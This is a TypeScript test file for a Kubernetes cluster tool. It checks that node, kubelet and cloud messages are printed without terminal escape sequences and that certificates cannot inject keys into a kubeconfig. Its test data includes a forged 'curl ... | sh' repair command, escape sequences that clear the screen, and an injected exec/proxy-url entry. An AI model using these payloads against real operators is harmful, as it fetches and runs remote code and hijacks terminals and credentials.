// What nodes and services write reaches the operator's terminal as plain text.
import test from 'ava';
import type { UserError } from '../../src/base/errors.ts';
import { kubeconfigText } from '../../src/cluster/kubernetes/kubeconfig-file.ts';
import { type Answers, demoStack, emptyCloud, event } from '../support/fake-cloud.ts';
import { on, updates } from '../support/kstack-on-cloud.ts';
import { fakeKubernetes, nodeObject } from '../support/kubernetes.ts';
import { kubernetesThat, names, withKubernetes } from '../support/leaving.ts';

/** Clears the screen, sets the title, and begins a line that looks like one of kstack. */
const attack =
	'\x1b[2J\x1b]0;owned\x07\rno space\nkstack: to repair, run: curl http://198.51.100.7/x | sh\x9b31m';

const controls = /(?![\t\n])\p{Cc}/u;
const forged = /^kstack: to repair/m;

test('the reason of a node that cannot be drained is one line without terminal sequences, and of limited length', async (t) => {
	const reason = `failed: ${attack}${'x'.repeat(100_000)}`;
	const kubernetes = await kubernetesThat((name) => (name === 'demo-minion-2' ? reason : undefined));
	t.teardown(kubernetes.close);
	const { folder, stages } = await withKubernetes(kubernetes);
	const { code, stderr, asked } = await on(stages(2), ['scale', 'demo', '--minions', '2', '-y'], {
		cwd: folder,
	});
	t.is(code, 1);
	t.regex(stderr, /kstack: Could not drain demo-minion-2: no space kstack: to repair, run: curl .*x\.\.\.$/m);
	t.notRegex(stderr, controls);
	t.notRegex(stderr, forged);
	t.true(stderr.length < 3000);
	t.deepEqual(updates(asked), []);
});

test('status shows the version that a kubelet reports in one line without terminal sequences', async (t) => {
	const items = names.map((name) => {
		const node = nodeObject(name);
		return name === 'demo-minion-2'
			? { ...node, status: { ...node.status, nodeInfo: { kubeletVersion: `v1${attack}` } } }
			: node;
	});
	const kubernetes = await fakeKubernetes({ 'GET /api/v1/nodes': [200, { items }] });
	t.teardown(kubernetes.close);
	const { folder, stages } = await withKubernetes(kubernetes);
	for (const output of ['table', 'json']) {
		const { code, stdout, stderr } = await on(stages(3), ['status', 'demo', '-o', output], { cwd: folder });
		t.is(code, 0, stderr);
		t.notRegex(stdout, controls);
		t.notRegex(stdout, forged);
		t.regex(stdout, /v1 no space kstack: to repair, run: curl\.\.\.|v1 no space kstack/);
	}
});

test('signals, console logs and reasons of a failed creation are printed without terminal sequences', async (t) => {
	const failed = (resource: string, index: number, id: string) =>
		event(index + 1, 'CREATE_FAILED', {
			...{ stack_name: `demo-minions-x7-${index}-k3`, resource_name: resource, physical_resource_id: id },
			resource_status_reason: `WaitConditionFailure: ${attack}`,
		});
	const cloud: readonly Answers[] = [
		{ ...emptyCloud, 'stack-create': { id: 'stack-1' } },
		{
			'stack-event-list': [
				failed('ready', 0, 'w'),
				failed('ready', 1, 'w'),
				failed('server', 2, 'server-9'),
				event(4, 'CREATE_FAILED', { resource_status_reason: attack }),
			],
			'stack-show-demo': demoStack(1),
			'server-show-server-9': { fault: { message: attack } },
			'stack-resource-metadata-demo-minions-x7-0-k3-ready_handle': {
				node: { status: 'FAILURE', reason: attack, data: `${attack}\n`.repeat(1000) },
			},
			'stack-resource-show-demo-minions-x7-1-k3-server': { physical_resource_id: 'server-1' },
			'console-log-show': `${attack}\n`.repeat(1000),
		},
	];
	const { code, stderr } = await on(cloud, ['create', 'demo']);
	t.is(code, 1);
	t.regex(stderr, /The node reports: no space/);
	t.regex(stderr, /Nova reports: no space/);
	t.notRegex(stderr, controls);
	t.notRegex(stderr, forged);
	t.true(stderr.split('\n').length < 150, 'only the end of a log is printed');
});

test('certificates that the first master signals cannot add keys to a kubeconfig', (t) => {
	const parts = { ca: 'Q0E=', certificate: 'T1A=', key: 'S0VZ' };
	t.notThrows(() => kubeconfigText('demo', 'https://192.0.2.1:6443', parts));
	const command = 'T1A=\n    exec: {apiVersion: client.authentication.k8s.io/v1, command: sh}';
	for (const [endpoint, wrong] of [
		['https://192.0.2.1:6443', { certificate: command }],
		['https://192.0.2.1:6443', { ca: command }],
		['https://192.0.2.1:6443\n    proxy-url: http://198.51.100.7', {}],
	] as const) {
		const error = t.throws<UserError>(() => kubeconfigText('demo', endpoint, { ...parts, ...wrong }));
		t.is(error?.code, 'invalid-certificate');
	}
});
